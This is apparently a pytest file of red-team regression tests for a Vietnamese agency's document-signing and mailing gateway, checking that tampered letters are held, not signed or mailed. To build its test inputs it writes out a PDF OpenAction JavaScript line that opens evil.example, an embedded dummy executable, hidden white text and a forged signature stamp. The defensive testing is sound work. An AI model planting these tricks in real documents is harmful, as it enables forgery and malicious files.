"""Red team 63 (outgoing): what the clerk's `send` and outgoing folder mailed that the agency never meant to. Sở Tài
chính's own signed letter, dropped for sending at Sở Nội vụ, was registered as ours, signed with our key over theirs and
mailed, and so was a letter headed as ours that only Sở Tài chính had signed; our signed letter with a later unsigned
revision adding "- Sở Tài chính." to its block was signed again whole and mailed (its plan read from the signed
revision); a letter whose text layer hides an entry in white, which every recipient's intake returns as `hidden-text`,
was mailed; a mail dropped in the folder with two letters and an Excel draft sent the first letter alone, the second
and the draft dropped in silence, the mail filed as sent; two sends of one file at once registered and mailed it twice.
Each is now held for the clerk (or `already_sent`), nothing signed, nothing mailed. Each test failed before its fix.

The functions `qlvb-gateway send` and the daemon's folder use (`OutgoingSender`, `take_dropped`, the outbox's
`OutboxSender`), in this process, on real PDFs signed with the tests' PKI, our own key configured from a PKCS#12 file,
and a real SMTP server (aiosmtpd) receiving what is mailed."""

from __future__ import annotations

import email
import email.policy
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from email.message import EmailMessage, Message
from typing import Any

import pymupdf
import pytest
from sqlalchemy import select

from outgoing_kit import letter, signing_agency
from kit import scan, sign_pdf
from test_attachments import xlsx
from world import STC, STP, US, World

class Recorder:
    """An SMTP server's handler keeping every message it accepts, with its envelope's recipients."""

    def __init__(self) -> None:
        self.got: list[tuple[list[str], Message]] = []
        self.lock = threading.Lock()

    async def handle_DATA(self, server, session, envelope):  # type: ignore[no-untyped-def]
        with self.lock:
            self.got.append((list(envelope.rcpt_tos), email.message_from_bytes(envelope.content, policy=email.policy.default)))
        return "250 OK"

    def carrying(self, filename: str) -> list[tuple[list[str], Message]]:
        """The mails that carry a file of that name."""
        return [(to, m) for to, m in self.got if filename in [p.get_filename() for p in m.walk()]]


@dataclass
class Agency:
    world: World
    gateway: Any
    sender: Any
    smtp: Recorder

    def send(self, pdf: bytes, filename: str) -> Any:
        """What `qlvb-gateway send FILE` does: send, then hand what was queued to the SMTP server."""
        from gateway.cli import _send_now
        from gateway.outgoing.send import OutgoingFile

        outcome = self.sender.send(OutgoingFile(filename, filename, pdf))
        _send_now(self.gateway)
        return outcome

    def registered(self, notation: str) -> list[Any]:
        from registry.models import OutgoingDocument

        with self.gateway.register.session() as s:
            return list(s.scalars(select(OutgoingDocument).where(OutgoingDocument.notation == notation)).all())


@pytest.fixture(scope="module")
def agency(tmp_path_factory: pytest.TempPathFactory, province) -> Iterator[Agency]:  # type: ignore[no-untyped-def]
    """Sở Nội vụ's gateway, our key configured (PKCS#12), mailing to a real SMTP server."""
    recorder = Recorder()
    with signing_agency(tmp_path_factory.mktemp("rt63") / "agency", province, recorder, "QLVB_RT63_P12") as (world, gw, sender):
        yield Agency(world, gw, sender, recorder)


def _held(outcome: Any) -> list[str]:
    return [r.code for r in outcome.plan.held]


def test_another_agencys_document_is_never_signed_and_sent_as_ours(agency: Agency) -> None:
    world = agency.world
    theirs = sign_pdf(letter("12/STC-NS", issuer="SỞ TÀI CHÍNH"), world.signers["stc"], world.pki)
    outcome = agency.send(theirs, "12-STC-NS.pdf")
    assert not outcome.registered and _held(outcome) == ["not-our-document"]
    assert "Sở Tài chính" in outcome.plan.held[0].message
    # headed as ours, but signed by Sở Tài chính alone: not ours either, never signed over
    signed_by_them = sign_pdf(letter("13/SNV-VP"), world.signers["stc"], world.pki)
    outcome = agency.send(signed_by_them, "13-SNV-VP.pdf")
    assert not outcome.registered and _held(outcome) == ["not-our-document"]
    assert not agency.registered("12/STC-NS") and not agency.registered("13/SNV-VP")
    assert not agency.smtp.carrying("12-STC-NS.pdf") and not agency.smtp.carrying("13-SNV-VP.pdf")


def test_our_signed_letter_changed_after_signing_is_not_signed_again_nor_sent(agency: Agency) -> None:
    identity = agency.world.pki.signers[US["name"]]
    signed = sign_pdf(letter("50/SNV-VP"), identity, agency.world.pki)
    path = agency.world.root / "50-SNV-VP.pdf"
    path.write_bytes(signed)
    doc = pymupdf.open(str(path))  # a PDF editor's "save": an unsigned revision adding an entry under the block
    page = doc[0]
    last = page.search_for("Sở Tư pháp.")[-1]
    page.add_freetext_annot(pymupdf.Rect(last.x0 - 8, last.y1 + 2, last.x0 + 150, last.y1 + 18), "- Sở Tài chính.",
                            fontsize=10, fontname="helv").update()
    doc.saveIncr()
    doc.close()
    changed = path.read_bytes()
    assert changed.startswith(signed) and len(changed) > len(signed)
    outcome = agency.send(changed, "50-SNV-VP.pdf")
    assert not outcome.registered and _held(outcome) == ["signed-then-changed"]
    assert not agency.registered("50/SNV-VP") and not agency.smtp.carrying("50-SNV-VP.pdf")


def test_a_letter_hiding_text_in_its_block_is_held_as_intake_would_return_it(agency: Agency) -> None:
    doc = pymupdf.open(stream=letter("52/SNV-VP"), filetype="pdf")
    page = doc[0]
    last = page.search_for("Sở Tư pháp.")[-1]
    page.insert_font(fontname="vn", fontfile="/usr/share/fonts/truetype/dejavu/DejaVuSerif.ttf")
    page.insert_text((last.x0 - 8, last.y1 + 14), "- Sở Tài chính.", fontname="vn", fontsize=11, color=(1, 1, 1))
    outcome = agency.send(doc.tobytes(), "52-SNV-VP.pdf")
    assert not outcome.registered and "hidden-text" in _held(outcome)
    assert not agency.registered("52/SNV-VP") and not agency.smtp.carrying("52-SNV-VP.pdf")


def _dropped(subject: str, *files: tuple[str, bytes, str]) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = US["mailbox"], US["mailbox"], subject
    msg.set_content("Đề nghị gửi văn bản kèm theo.")
    for name, data, kind in files:
        maintype, subtype = kind.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_a_folder_mail_with_two_letters_is_held_and_the_clerk_told_each_file(agency: Agency) -> None:
    from gateway.cli import _send_now
    from gateway.dropped_mail import take_dropped

    two = letter("71/SNV-VP", recipients=["Nơi nhận:", "- Lưu: VT.", "Bản điện tử:", "- Sở Tài chính."])
    raw = _dropped("Gửi đi 70, 71", ("70-SNV-VP.pdf", letter("70/SNV-VP"), "application/pdf"),
                   ("71-SNV-VP.pdf", two, "application/pdf"), ("du-thao-71.xlsx", xlsx(), XLSX),
                   ("anh-chup.jpg", b"\xff\xd8\xff", "image/jpeg"))
    assert take_dropped(agency.sender, "QLVB/Gửi đi:70", raw) == "held"  # to "Gửi đi/Chờ xác nhận", not "Đã gửi"
    _send_now(agency.gateway)
    assert not agency.registered("70/SNV-VP") and not agency.registered("71/SNV-VP")
    assert not [to for to, _ in agency.smtp.got if STP in to or STC in to]
    [note] = [m for to, m in agency.smtp.got if to == [US["mailbox"]] and str(m["Subject"]) == "[Chưa gửi] Gửi đi 70, 71"]
    text = note.get_content()
    assert "mỗi thư một văn bản" in text and "70-SNV-VP.pdf, 71-SNV-VP.pdf" in text
    assert "anh-chup.jpg" in text  # the attachment it does not use, named

    # one letter with its Excel draft (000 Đ10.3.a "Word/Excel", 004 Đ4.3): sent, the draft attached
    raw = _dropped("Gửi đi 72", ("72-SNV-VP.pdf", letter("72/SNV-VP"), "application/pdf"),
                   ("du-thao-72.xlsx", xlsx(), XLSX))
    assert take_dropped(agency.sender, "QLVB/Gửi đi:72", raw) == "sent"
    _send_now(agency.gateway)
    [(to, mail)] = agency.smtp.carrying("72-SNV-VP.pdf")
    assert to == [STP] and "du-thao-72.xlsx" in [p.get_filename() for p in mail.walk()]


def test_two_sends_of_one_file_at_once_register_and_mail_it_once(agency: Agency) -> None:
    from gateway.outgoing.send import OutgoingFile, OutgoingSender

    pdf = letter("61/SNV-VP")
    item = OutgoingFile("61-SNV-VP.pdf", "61-SNV-VP.pdf", pdf)
    reader = agency.sender.pool
    other = OutgoingSender(agency.gateway, reader)  # the folder's send, or a second clerk's

    class Racing:  # the other send runs whole while this one reads the file (it looked for it in the register before)
        def read_pdf(self, filename: str, data: bytes) -> Any:
            facts = reader.read_pdf(filename, data)
            assert not other.send(item).already_sent
            return facts

    first = OutgoingSender(agency.gateway, Racing()).send(item)
    from gateway.cli import _send_now

    _send_now(agency.gateway)
    assert first.already_sent and len(agency.registered("61/SNV-VP")) == 1
    assert len(agency.smtp.carrying("61-SNV-VP.pdf")) == 1
    with closing(agency.world.db()) as register:  # the number the second send took was given back
        from registry.models import OutgoingDocument

        with register.session() as s:
            sequences = sorted(s.scalars(select(OutgoingDocument.sequence)).all())
    assert sequences == list(range(1, len(sequences) + 1))


def test_a_letter_of_a_number_sent_before_is_said_before_it_goes_again(agency: Agency) -> None:
    """Red team 63: letter 51/SNV-VP saved again (its bytes other, its /ID only) was sent a second time under a new
    identifier without a word. NĐ 30/2020 Phụ lục VI: the plan says so (`sent-before`, naming the first identifier);
    it still goes when sent (a correction may), the clerk having seen the plan."""
    from gateway.outgoing.send import OutgoingFile

    first = agency.send(letter("51/SNV-VP"), "51-SNV-VP.pdf")
    assert first.registered and not first.already_sent
    again = letter("51/SNV-VP", summary="V/v triển khai công tác văn thư (gửi lại)")
    plan, _, _ = agency.sender.plan(OutgoingFile("51-SNV-VP (1).pdf", "51-SNV-VP (1).pdf", again))
    assert [(w.code, w.detail) for w in plan.warnings] == [("sent-before", first.plan.identifier)]
    assert plan.as_json()["warnings"][0]["code"] == "sent-before" and plan.sendable
    other = agency.send(letter("52/SNV-VP"), "52-SNV-VP.pdf")
    assert other.plan.warnings == []


def test_our_letter_carrying_javascript_a_program_or_another_letter_is_never_signed_nor_sent(agency: Agency) -> None:
    """Red team 66: our letter with JavaScript run on opening, with an executable embedded, or with Sở Tài chính's signed
    letter embedded was signed with our key and mailed; intake refuses the first two from anybody, and the third is a
    document the plan never read. Held as intake names them (`unsupported-attachment`), the embedded letter as
    `several-documents`; nothing signed, nothing mailed."""
    world = agency.world
    doc = pymupdf.open(stream=letter("80/SNV-VP"), filetype="pdf")
    js = doc.get_new_xref()
    doc.update_object(js, "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/x', true\\);) >>")
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{js} 0 R")
    with_js = doc.tobytes()
    doc = pymupdf.open(stream=letter("81/SNV-VP"), filetype="pdf")
    doc.embfile_add("huong-dan.exe", b"MZ\x90\x00" + b"\x00" * 200, filename="huong-dan.exe")
    with_exe = doc.tobytes()
    doc = pymupdf.open(stream=letter("82/SNV-VP"), filetype="pdf")
    theirs = sign_pdf(letter("12/STC-NS", issuer="SỞ TÀI CHÍNH"), world.signers["stc"], world.pki)
    doc.embfile_add("12-STC-NS.pdf", theirs, filename="12-STC-NS.pdf")
    with_letter = doc.tobytes()
    for number, pdf, code in (("80", with_js, "unsupported-attachment"), ("81", with_exe, "unsupported-attachment"),
                              ("82", with_letter, "several-documents")):
        outcome = agency.send(pdf, f"{number}-SNV-VP.pdf")
        assert not outcome.registered and _held(outcome) == [code], (number, _held(outcome))
        assert not agency.registered(f"{number}/SNV-VP") and not agency.smtp.carrying(f"{number}-SNV-VP.pdf")
    assert "12-STC-NS.pdf" in outcome.plan.held[0].message


def test_a_later_signature_of_another_after_ours_is_held_and_the_plan_read_as_we_signed(agency: Agency) -> None:
    """Red team 66: our signed letter (block: Sở Tư pháp), then signed by a certificate nobody trusts whose visible box
    draws "- Sở Tài chính." under the block, was sent byte for byte to both: the plan read the box as an entry. Intake
    calls it `signature-modified`; held now (`signed-then-changed`), the plan read from the revision we signed."""
    from kit import sign_with_stamp

    world = agency.world
    signed = sign_pdf(letter("90/SNV-VP"), world.pki.signers[US["name"]], world.pki)
    page = pymupdf.open(stream=signed, filetype="pdf")[0]
    last = page.search_for("Sở Tư pháp.")[-1]
    height = page.rect.height
    box = (last.x0 - 8, height - (last.y1 + 18), last.x0 + 150, height - (last.y1 + 2))
    forged = sign_with_stamp(signed, world.signers["stranger"], world.stranger, text="- Sở Tài chính.", box=box,
                             field_name="Signature2", font_size=11, unicode=True)
    outcome = agency.send(forged, "90-SNV-VP.pdf")
    assert not outcome.registered and _held(outcome) == ["signed-then-changed"]
    assert [e.entry for e in outcome.plan.electronic] == ["Sở Tư pháp"]
    assert not agency.registered("90/SNV-VP") and not agency.smtp.carrying("90-SNV-VP.pdf")


def test_a_joint_document_its_printed_co_issuer_signed_first_is_ours_to_sign(agency: Agency) -> None:
    """Red team 67: a Hướng dẫn liên tịch of Sở Nội vụ and Sở Tài chính, signed first by Sở Tài chính (each issuer signs
    in turn), was held `not-our-document`: a signature of an agency the document prints as its issuer is not another's.
    Planned to be signed by us and sent; signed by an agency it does not print, it stays held."""
    from gateway.outgoing.send import OutgoingFile

    world = agency.world
    joint = letter("05/HDLT-SNV-STC", issuer="SỞ NỘI VỤ - SỞ TÀI CHÍNH", type="Hướng dẫn liên tịch")
    plan, _, must_sign = agency.sender.plan(OutgoingFile("05.pdf", "05.pdf", sign_pdf(joint, world.signers["stc"], world.pki)))
    assert plan.held == [] and must_sign and plan.signed
    plan, _, _ = agency.sender.plan(OutgoingFile("05b.pdf", "05b.pdf", sign_pdf(joint, world.signers["stp"], world.pki)))
    assert [r.code for r in plan.held] == ["not-our-document"]
    # a joint "Chương trình phối hợp" whose code says no "LT": each part of its issuer line an agency (red team 67)
    program = letter("01/CTPH-SNV-STC", issuer="SỞ NỘI VỤ - SỞ TÀI CHÍNH", type="Chương trình phối hợp")
    plan, _, must_sign = agency.sender.plan(OutgoingFile("01.pdf", "01.pdf", sign_pdf(program, world.signers["stc"], world.pki)))
    assert plan.held == [] and must_sign


def test_the_clerk_is_told_what_a_folder_letter_sent_left_out_and_what_a_hold_asks(agency: Agency) -> None:
    """Red team 69: a letter sent again from the folder under a number sent before, and one carrying a picture beside it,
    went with a log line only (the clerk never told the picture did not go); a hold nobody can lift by `--confirm` told
    the clerk to send it with `--confirm`."""
    from gateway.cli import _send_now
    from gateway.dropped_mail import take_dropped

    def note(subject: str) -> str:
        _send_now(agency.gateway)
        [mail] = [m for to, m in agency.smtp.got if to == [US["mailbox"]] and subject in str(m["Subject"])]
        return str(mail.get_content())

    assert take_dropped(agency.sender, "QLVB/Gửi đi:80", _dropped("Gửi đi 80", ("80.pdf", letter("80/SNV-VP"),
                                                                                  "application/pdf"))) == "sent"
    again = _dropped("Gửi lại 80", ("80 (1).pdf", letter("80/SNV-VP", summary="V/v gửi lại"), "application/pdf"),
                     ("phu-luc-80.jpg", b"\xff\xd8\xff", "image/jpeg"))
    assert take_dropped(agency.sender, "QLVB/Gửi đi:81", again) == "sent"
    text = note("[Đã gửi, cần xem] Gửi lại 80")
    assert "cùng số, ký hiệu" in text and "phu-luc-80.jpg" in text and "--confirm" not in text
    theirs = sign_pdf(letter("12/STC-NS", issuer="SỞ TÀI CHÍNH"), agency.world.signers["stc"], agency.world.pki)
    assert take_dropped(agency.sender, "QLVB/Gửi đi:82", _dropped("Gửi đi 82", ("12.pdf", theirs, "application/pdf"))) == "held"
    text = note("[Chưa gửi] Gửi đi 82")
    assert "--confirm" not in text and "chuyển thư trở lại thư mục gửi đi" in text


def test_a_scan_of_a_letter_of_a_body_nobody_knows_is_not_signed_as_ours(agency: Agency) -> None:
    """Red team 66: a scan of another body's letter ("BAN QUẢN LÝ CÁC KHU CÔNG NGHIỆP", in no directory), its issuer read
    right by OCR, was signed with our key, registered as ours and mailed (an OCR-read issuer nobody knows counts as
    unread). Held `not-our-document`, never signed; the clerk who knows a scan is ours signs it before sending."""
    from gateway.outgoing.send import OutgoingFile

    theirs = letter("15/BQL-VP", issuer="BAN QUẢN LÝ CÁC KHU CÔNG NGHIỆP", summary="V/v báo cáo tình hình lao động")
    plan, _, must_sign = agency.sender.plan(OutgoingFile("15.pdf", "15.pdf", scan(theirs, dpi=200, grey=False)))
    assert "not-our-document" in [r.code for r in plan.held] and must_sign
    assert not agency.send(scan(theirs, dpi=200, grey=False), "15-BQL-VP.pdf").registered
    ours = letter("16/SNV-VP")  # our own scan: signed by the gateway and sent, as before
    plan, _, must_sign = agency.sender.plan(OutgoingFile("16.pdf", "16.pdf", scan(ours, dpi=200, grey=False)))
    assert plan.held == [] and must_sign
